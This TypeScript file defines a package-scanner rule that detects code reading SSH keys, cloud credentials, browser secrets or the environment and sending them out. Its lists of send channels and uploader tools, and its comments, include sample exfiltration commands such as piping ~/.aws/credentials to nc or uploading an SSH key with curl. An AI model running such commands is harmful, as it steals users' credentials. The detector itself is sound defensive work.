import { HTTP_CLIENTS, HTTP_METHODS } from '../../code/taint-sources.js';
import type { Node, Tree } from 'web-tree-sitter';
import { defineRule } from '../../../core/rule.js';
import type { CallSite, CodeMatch, CodeRule } from '../../code/call-site.js';
import type { RuleFamily } from '../../code/node-site.js';
import { qualifiedNames } from '../../code/resolve.js';
import type { Scope } from '../../code/scopes.js';
import { SENSITIVE_HINT, sensitivePathIn } from './sensitive-paths.js';
import {
  commandText,
  fileIndex,
  lineOf,
  literalText,
  type Mark,
  type MarkFinder,
  marksOf,
  statementOf,
  topLevelUnit,
} from './value-marks.js';

export const PKG_EXF_001 = defineRule({
  id: 'PKG-EXF-001',
  domain: 'package',
  title: 'package sends credentials or private data over the network',
  description:
    'Package code that reads credentials or private data (SSH keys, cloud and registry credentials, browser ' +
    'password and cookie stores, crypto wallets, /etc/passwd, a dump of the whole environment) and sends it out ' +
    'over HTTP, raw sockets, mail, DNS lookups, chat webhooks or upload commands (`curl -F f=@~/.aws/credentials`). ' +
    'A proven flow from the data to the send is ' +
    'critical; a function that reads such data and also sends something, without a proven flow, is high; host ' +
    'and user names alone sent somewhere (the fingerprint dependency-confusion probes send) are medium.',
  fix: 'Do not install the package. If it was installed, treat every credential the account could read as stolen: rotate SSH keys, cloud, registry and API credentials, and browser-saved passwords, then report the package to the index.',
  severity: 'critical',
  confidence: 'high',
  verdict: 'suspicious',
  cwe: ['CWE-200', 'CWE-506'],
  owasp: ['ML06:2023'],
});

type Channel = 'http' | 'socket' | 'mail' | 'dns' | 'chat' | 'unknown';

/** The code scanner's HTTP clients, plus the module that holds requests' functions. */
const SENDING_CLIENTS = [...HTTP_CLIENTS, 'requests.api'];
const SOCKETS = [
  'socket.socket()',
  'socket.create_connection()',
  'ssl.SSLContext().wrap_socket()',
  'ssl.wrap_socket()',
];

/** Calls that send their arguments out, by qualified name, and the channel they use. */
const SINKS = new Map<string, Channel>([
  ...SENDING_CLIENTS.flatMap((client) =>
    [...HTTP_METHODS].map((verb) => [`${client}.${verb}`, 'http'] as const),
  ),
  ['urllib.request.urlopen', 'http'],
  ['urllib.request.build_opener().open', 'http'],
  ['urllib2.urlopen', 'http'],
  ['urllib.urlopen', 'http'],
  ['urllib2.build_opener().open', 'http'],
  ['urllib3.PoolManager().request', 'http'],
  ['urllib3.PoolManager().urlopen', 'http'],
  ['http.client.HTTPConnection().request', 'http'],
  ['http.client.HTTPSConnection().request', 'http'],
  ['http.client.HTTPConnection().send', 'http'],
  ['http.client.HTTPSConnection().send', 'http'],
  ['httplib.HTTPConnection().request', 'http'],
  ['httplib.HTTPSConnection().request', 'http'],
  ...SOCKETS.flatMap((socket) =>
    ['send', 'sendall', 'sendto', 'sendmsg'].map((method) => [`${socket}.${method}`, 'socket'] as const),
  ),
  ['smtplib.SMTP().sendmail', 'mail'],
  ['smtplib.SMTP().send_message', 'mail'],
  ['smtplib.SMTP_SSL().sendmail', 'mail'],
  ['smtplib.SMTP_SSL().send_message', 'mail'],
  ['ftplib.FTP().storbinary', 'http'],
  ['ftplib.FTP().storlines', 'http'],
  ['socket.gethostbyname', 'dns'],
  ['socket.gethostbyname_ex', 'dns'],
  ['socket.getaddrinfo', 'dns'],
  ['dns.resolver.resolve', 'dns'],
  ['dns.resolver.query', 'dns'],
  ['dns.resolver.Resolver().resolve', 'dns'],
  ['dns.resolver.Resolver().query', 'dns'],
  ['aiodns.DNSResolver().query', 'dns'],
  ['aiodns.DNSResolver().gethostbyname', 'dns'],
  ['discord_webhook.DiscordWebhook', 'chat'],
  ['dhooks.Webhook().send', 'chat'],
  ['discord.SyncWebhook.from_url().send', 'chat'],
  ['telebot.TeleBot().send_message', 'chat'],
  ['telebot.TeleBot().send_document', 'chat'],
  ['telegram.Bot().send_message', 'chat'],
  ['telegram.Bot().send_document', 'chat'],
  ['slack_sdk.webhook.WebhookClient().send', 'chat'],
  // Methods on objects of unknown type count only for a proven flow of secrets.
  ['?.sendall', 'unknown'],
  ['?.sendto', 'unknown'],
  ['?.post', 'unknown'],
  ['?.put', 'unknown'],
]);

/** Calls that return identifying details of the machine: what dependency-confusion probes report home. */
const FINGERPRINTS = new Map<string, string>([
  ['socket.gethostname', 'the host name'],
  ['socket.getfqdn', 'the host name'],
  ['platform.node', 'the host name'],
  ['platform.uname', 'the machine description'],
  ['os.uname', 'the machine description'],
  ['getpass.getuser', 'the user name'],
  ['os.getlogin', 'the user name'],
  ['uuid.getnode', 'the MAC address'],
  ['os.getcwd', 'the working directory'],
]);

/** Calls that return secrets themselves: browser cookie extractors, Windows DPAPI decryption. */
const SECRET_CALLS: readonly (readonly [RegExp, string])[] = [
  [/^browser_cookie3\./, 'browser cookies (browser_cookie3)'],
  [
    /^(?:win32crypt\.CryptUnprotectData|Cryptodome?\.Cipher\.AES\.new\(\)\.decrypt)$/,
    'decrypted browser secrets',
  ],
];
/** SQL reading the password and cookie tables of browser profiles. */
const BROWSER_SQL =
  /\b(?:password_value|encrypted_value)\b|\bfrom\s+(?:logins|cookies|moz_cookies|moz_logins|credit_cards)\b/i;
/** Environment variables whose value is never sent anywhere by a legitimate client (it signs with it instead). */
const SECRET_VARIABLES = new Set(['AWS_SECRET_ACCESS_KEY']);
/** Services that echo the caller's public IP address. */
const IP_ECHO =
  /\b(?:api\d*\.ipify\.org|ifconfig\.me|ipinfo\.io|icanhazip\.com|checkip\.amazonaws\.com|ip-api\.com|ident\.me)\b/;

/** Calls whose result reveals nothing of the data given to them. */
const BARRIERS = new Set([
  'builtins.len',
  'builtins.bool',
  'builtins.int',
  'builtins.isinstance',
  'os.path.exists',
  'os.path.isfile',
  'os.path.isdir',
  'os.path.getsize',
  'os.path.getmtime',
  'os.access',
]);
const BARRIER_MODULES = ['hashlib.', 'logging.'];

/** Uses of the whole environment that copy all of it, rather than reading one variable. */
const WHOLE_ENVIRONMENT_METHODS = new Set(['copy', 'items', 'keys', 'values', '__repr__', '__str__']);
const ENVIRONMENT = new Set(['os.environ', 'os.environb']);

function mark(kind: 'secret' | 'fingerprint', label: string, node: Node): Mark {
  return { kind, label, line: lineOf(node) };
}

/** Calls that turn the environment they are given into data (text, a plain dict, a list). */
const CONVERTERS = new Set([
  'builtins.dict',
  'builtins.str',
  'builtins.repr',
  'builtins.list',
  'builtins.sorted',
  'builtins.print',
  'json.dumps',
  'json.dump',
  'pickle.dumps',
  'marshal.dumps',
  'yaml.dump',
  'yaml.safe_dump',
  'pprint.pformat',
  'base64.b64encode',
]);

/**
 * `os.environ` used whole: copied, converted, assigned, put into a container or handed to a send or to a
 * function of this file. Subscripts, `.get`, `in` tests and `env=os.environ` given to another library (a
 * subprocess, a downloader) read it or pass it on without making it data.
 */
function isWholeEnvironment(node: Node, scope: Scope): boolean {
  if (!/environb?$/.test(node.text)) return false;
  if (!qualifiedNames(node, scope).some((name) => ENVIRONMENT.has(name))) return false;
  let parent = node.parent;
  if (parent === null) return false;
  if (parent.type === 'subscript' || parent.type === 'comparison_operator') return false;
  if (parent.type === 'attribute')
    return WHOLE_ENVIRONMENT_METHODS.has(parent.childForFieldName('attribute')?.text ?? '');
  if (parent.type === 'keyword_argument') parent = parent.parent;
  if (parent?.type !== 'argument_list') return true;
  const callee = parent.parent?.childForFieldName('function');
  if (callee === null || callee === undefined) return false;
  if (qualifiedNames(callee, scope).some((name) => CONVERTERS.has(name) || SINKS.has(name))) return true;
  return (
    callee.type === 'identifier' &&
    scope.lookup(callee.text, callee.startIndex)?.bindings.some((b) => b.kind === 'function') === true
  );
}

/** The marks of exfiltration: secrets (sensitive files, the environment) and machine fingerprints. */
const exfiltrationFinder: MarkFinder = (node, scope) => {
  switch (node.type) {
    case 'string': {
      const text = literalText(node);
      if (BROWSER_SQL.test(text)) return [mark('secret', 'browser passwords or cookies (SQL)', node)];
      const label = sensitivePathIn(text, statementOf(node).text.slice(0, 2000));
      return label === undefined ? undefined : [mark('secret', label, node)];
    }
    case 'subscript': {
      const value = node.childForFieldName('value');
      const key = node.childForFieldName('subscript');
      if (value === null || key?.type !== 'string' || !SECRET_VARIABLES.has(literalText(key)))
        return undefined;
      return qualifiedNames(value, scope).some((name) => ENVIRONMENT.has(name))
        ? [mark('secret', `the ${literalText(key)} variable`, node)]
        : undefined;
    }
    case 'identifier':
    case 'attribute':
      return isWholeEnvironment(node, scope)
        ? [mark('secret', 'the whole environment (os.environ)', node)]
        : undefined;
    case 'call': {
      const callee = node.childForFieldName('function');
      if (callee === null) return undefined;
      const names = qualifiedNames(callee, scope);
      const first = node.childForFieldName('arguments')?.namedChildren[0];
      for (const name of names) {
        const secret = SECRET_CALLS.find(([pattern]) => pattern.test(name));
        if (secret !== undefined) return [mark('secret', secret[1], node)];
        if (
          (name === 'os.getenv' || name === 'os.environ.get') &&
          first?.type === 'string' &&
          SECRET_VARIABLES.has(literalText(first))
        )
          return [mark('secret', `the ${literalText(first)} variable`, node)];
        const fingerprint = FINGERPRINTS.get(name);
        if (fingerprint !== undefined) return [mark('fingerprint', fingerprint, node)];
        if (BARRIERS.has(name) || BARRIER_MODULES.some((module) => name.startsWith(module))) return [];
      }
      if (
        first?.type === 'string' &&
        IP_ECHO.test(literalText(first)) &&
        names.some((name) => SINKS.get(name) === 'http')
      )
        return [mark('fingerprint', 'the public IP address', node)];
      return undefined;
    }
    default:
      return undefined;
  }
};

/** A read of sensitive data somewhere in the file, by the top-level unit it is in. */
interface SensitiveRead {
  readonly unit: number;
  readonly label: string;
  readonly line: number;
}

/** Calls that read files or folders, and the argument (position) that names what they read. */
const READERS = new Map<string, number>([
  ['builtins.open', 0],
  ['io.open', 0],
  ['codecs.open', 0],
  ['pathlib.Path', 0],
  ['os.listdir', 0],
  ['os.scandir', 0],
  ['os.walk', 0],
  ['glob.glob', 0],
  ['glob.iglob', 0],
  ['shutil.copy', 0],
  ['shutil.copy2', 0],
  ['shutil.copyfile', 0],
  ['shutil.copytree', 0],
  ['shutil.make_archive', 2],
  ['sqlite3.connect', 0],
  ['zipfile.ZipFile().write', 0],
  ['tarfile.open().add', 0],
]);
/** `open(path, "w")`: writing a file (saving a key fetched from a server, say) is not reading it. */
function opensForWritingOnly(name: string, args: readonly (Node | null)[]): boolean {
  if (name !== 'builtins.open' && name !== 'io.open' && name !== 'codecs.open') return false;
  const mode = args.find(
    (arg) => arg?.type === 'keyword_argument' && arg.childForFieldName('name')?.text === 'mode',
  );
  const value = mode?.childForFieldName('value') ?? args[1];
  return value?.type === 'string' && /^[wax][bt]?$/.test(literalText(value));
}

const readsByTree = new WeakMap<Tree, readonly SensitiveRead[]>();

/** Every read of a sensitive file or folder in the file of `node` (empty for most files). */
function sensitiveReads(node: Node): readonly SensitiveRead[] {
  const tree = node.tree;
  let reads = readsByTree.get(tree);
  if (reads !== undefined) return reads;
  const found: SensitiveRead[] = [];
  if (SENSITIVE_HINT.test(tree.rootNode.text.toLowerCase())) {
    for (const { node: call, scope } of fileIndex(node).calls) {
      const callee = call.childForFieldName('function');
      if (callee === null) continue;
      for (const name of qualifiedNames(callee, scope)) {
        const position = READERS.get(name);
        if (position === undefined) continue;
        const args = call
          .childForFieldName('arguments')
          ?.namedChildren.filter((arg) => arg?.type !== 'comment');
        const target = args?.[position];
        if (target === undefined || target === null || opensForWritingOnly(name, args ?? [])) continue;
        const secret = marksOf(target, scope, exfiltrationFinder).find((m) => m.kind === 'secret');
        if (secret !== undefined)
          found.push({ unit: topLevelUnit(call), label: secret.label, line: lineOf(call) });
        break;
      }
    }
  }
  reads = found;
  readsByTree.set(tree, reads);
  return reads;
}

/** The arguments of a call, positional and keyword values. */
function argumentNodes(call: CallSite): Node[] {
  return [...call.positional.map((arg) => arg.node), ...[...call.keywords.values()].map((arg) => arg.node)];
}

/** A host name built from data (`f"{data}.x.example"`, `data + ".x.example"`), not the data itself. */
function isBuiltName(node: Node, scope: Scope): boolean {
  let at = node;
  if (at.type === 'identifier') {
    const binding = scope.lookup(at.text, at.startIndex)?.bindings[0];
    if (binding?.kind === 'value') at = binding.value;
  }
  return (
    ['string', 'binary_operator', 'concatenated_string'].includes(at.type) ||
    (at.type === 'call' && /\.(?:format|join)$/.test(at.childForFieldName('function')?.text ?? ''))
  );
}

const CHANNEL_WORDS: Record<Channel, string> = {
  http: 'over HTTP',
  socket: 'over a socket',
  mail: 'by mail',
  dns: 'in a DNS lookup',
  chat: 'to a chat webhook',
  unknown: 'over the network',
};

function checkSend(call: CallSite): CodeMatch | undefined {
  const channel = SINKS.get(call.name) ?? 'unknown';
  const args = channel === 'dns' ? argumentNodes(call).slice(0, 1) : argumentNodes(call);
  const marks = args.flatMap((arg) => marksOf(arg, call.scope, exfiltrationFinder));
  const secret = marks.find((m) => m.kind === 'secret');
  const how = CHANNEL_WORDS[channel];
  if (secret !== undefined)
    return { message: `${call.name} sends ${secret.label} (read at line ${secret.line}) ${how}` };
  if (channel === 'unknown') return undefined;
  const fingerprint = marks.find((m) => m.kind === 'fingerprint');
  if (fingerprint !== undefined && (channel !== 'dns' || args.some((arg) => isBuiltName(arg, call.scope))))
    return {
      message: `${call.name} sends ${fingerprint.label} (line ${fingerprint.line}) ${how}: a fingerprint of the machine`,
      severity: 'medium',
      confidence: 'medium',
    };
  if (channel === 'dns') return undefined;
  const unit = topLevelUnit(call.node);
  const read = sensitiveReads(call.node).find((r) => r.unit === unit);
  if (read === undefined) return undefined;
  return {
    message: `${call.name} sends data ${how} in code that also reads ${read.label} (line ${read.line}); no direct flow was traced`,
    severity: 'high',
    confidence: 'medium',
  };
}

const sendCheck: CodeRule = { rule: PKG_EXF_001, calls: [...SINKS.keys()], check: checkSend };

/** Command-line tools that send data out. */
const UPLOADERS =
  /(?:^|[\s|;&(`'"])(?:curl|wget|nc|ncat|netcat|socat|scp|sftp|ftp|tftp|telnet|sendmail|mail|mutt)(?:\.exe)?(?=\s)/;
/** Dumps of the whole environment piped into another program. */
const ENVIRONMENT_PIPE = /(?:^|[\s;&(])(?:env|printenv|set|export\s+-p)\s*\|/;

/** The sensitive file a shell command names, in one of its words (`-d @$HOME/.aws/credentials`). */
function sensitiveWord(command: string): string | undefined {
  for (const raw of command.split(/[\s'"|;&<>()]+/)) {
    const word = raw
      .replace(/^(?:[\w-]*=)?@/, '')
      .replace(/^(?:\$HOME|\$\{HOME\}|%USERPROFILE%|%APPDATA%|%LOCALAPPDATA%)/i, '~');
    if (word === '') continue;
    const label = sensitivePathIn(word, command);
    if (label !== undefined) return label;
  }
  return ENVIRONMENT_PIPE.test(command) ? 'the whole environment (env)' : undefined;
}

/** `os.system("curl -F f=@$HOME/.ssh/id_rsa https://…")`, `cat ~/.aws/credentials | nc host 80`. */
const commandCheck: CodeRule = {
  rule: PKG_EXF_001,
  calls: [
    'os.system',
    'os.popen',
    ...['Popen', 'call', 'run', 'check_call', 'check_output', 'getoutput', 'getstatusoutput'].map(
      (name) => `subprocess.${name}`,
    ),
  ],
  check(call) {
    const argument = call.positional[0] ?? call.keywords.get('args');
    const command = commandText(argument);
    if (argument === undefined || command === undefined || command.length > 20_000) return undefined;
    if (!UPLOADERS.test(` ${command}`)) return undefined;
    const label =
      sensitiveWord(command) ??
      marksOf(argument.node, call.scope, exfiltrationFinder).find((m) => m.kind === 'secret')?.label;
    if (label === undefined) return undefined;
    return { message: `${call.name} runs a command that sends ${label} out` };
  },
};

export const EXFILTRATION_FAMILY: RuleFamily = {
  rules: [PKG_EXF_001],
  calls: [sendCheck, commandCheck],
  nodes: [],
};
